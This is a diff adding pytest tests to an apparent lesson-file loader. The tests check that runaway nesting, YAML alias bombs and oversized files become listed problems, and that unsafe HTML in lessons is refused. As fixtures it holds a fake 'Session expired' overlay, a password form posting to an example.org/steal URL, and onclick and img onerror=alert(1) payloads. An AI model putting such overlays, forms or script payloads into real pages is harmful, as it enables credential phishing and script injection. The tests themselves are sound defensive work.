@@ -3,6 +3,7 @@ topics; a file with mistakes is refused with every problem listed, where it is; 
 teacher's own lessons come in through the classroom file, and theirs are refused when
 the app starts, with the list of problems, as a bad classroom file is."""
 
+import json
 from pathlib import Path
 
 import pytest
@@ -115,6 +116,62 @@ def test_each_kind_of_mistake_is_named(tmp_path, text, problem):
         + problem.replace("(", r"\(").replace(")", r"\)").replace("[", r"\[").replace("]", r"\]"),
     ):
         files.load([write(tmp_path, "lesson.yaml", text)])
+
+
+@pytest.mark.parametrize(
+    ("text", "problem"),
+    [
+        ("[" * 50_000 + "]" * 50_000, "line 1: nested more than 12 levels deep"),
+        (
+            "id: x\ntitle: X\nsteps: [{title: a, text: b, try: {tab: search, run: classify, inputs: {a: "
+            + "[" * 50_000
+            + "]" * 50_000
+            + "}}}]",
+            "line 3: nested more than 12 levels deep",
+        ),
+        ("a: &a [x, x]\nb: &b [*a, *a]\n", "line 2: anchors and aliases (&name, *name) are not used"),
+        ("id: x\n# " + "x" * 300_000, "the lesson file has 300,008 bytes; a lesson file may have at most 256,000"),
+    ],
+)
+def test_a_runaway_file_is_a_problem_in_the_list_not_a_crash(tmp_path, text, problem):
+    """A file nested 50,000 deep gave a 3,000-line RecursionError from the YAML parser."""
+    for suffix in ("yaml", "json"):
+        lessons, problems = files.read([write(tmp_path, f"deep.{suffix}", text), write(tmp_path, "good.yaml", GOOD)])
+        assert [lesson.id for lesson in lessons] == ["my-lesson"]
+        assert len(problems) == 1 and problems[0].startswith(f"deep.{suffix}: {problem}"), problems
+
+
+OVERLAY = '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>'
+PASSWORD_FORM = (
+    '<form action="https://example.org/steal"><input type="password" name="p"><button>Log in</button></form>'
+)
+
+
+@pytest.mark.parametrize(
+    ("where", "html", "problem"),
+    [
+        ("text", OVERLAY, "steps.1.text: HTML '<div style=\"position:fixed;inset:0;z-index:9999;backgroun..."),
+        ("text", PASSWORD_FORM, "steps.1.text: HTML '<form action=\"https://example.org/steal\">'"),
+        ("title", "<b onclick='x()'>Hi</b>", "steps.1.title: HTML \"<b onclick='x()'>\""),
+        ("formula", "x <img src=x onerror=alert(1)>", "steps.1.formula: HTML '<img src=x onerror=alert(1)>'"),
+        ("text", "<!-- hidden --> text", "steps.1.text: HTML '<!-- hidden -->'"),
+    ],
+)
+def test_lesson_html_that_could_draw_over_the_page_or_ask_for_a_password_is_refused(tmp_path, where, html, problem):
+    """Gradio's Markdown sanitiser keeps styles, forms and inputs: a lesson could cover the
+    page or show a password form. Lessons take a few plain tags; every other is a problem."""
+    step = {"title": "A step", "text": "Some text.", where: html}
+    text = "id: x\ntitle: X\nsteps:\n  - " + json.dumps(step, ensure_ascii=False)
+    lessons, problems = files.read([write(tmp_path, "html.yaml", text)])
+    assert lessons == [] and len(problems) == 1 and problems[0].startswith(f"html.yaml: {problem}"), problems
+
+
+def test_lesson_markdown_keeps_its_plain_tags_comparisons_and_links(tmp_path):
+    step = {"title": "H<sub>2</sub>O", "text": "x < y, 0<1, <b>bold</b><br/>and <https://example.org>",
+            "formula": "p \\lt 1"}  # fmt: skip
+    text = "id: x\ntitle: X\nsteps:\n  - " + json.dumps(step, ensure_ascii=False)
+    (lesson,) = files.load([write(tmp_path, "fine.yaml", text)])
+    assert lesson.steps[0].text["en"] == step["text"]
 
 
 def test_missing_files_and_duplicate_ids_are_problems_too(tmp_path):
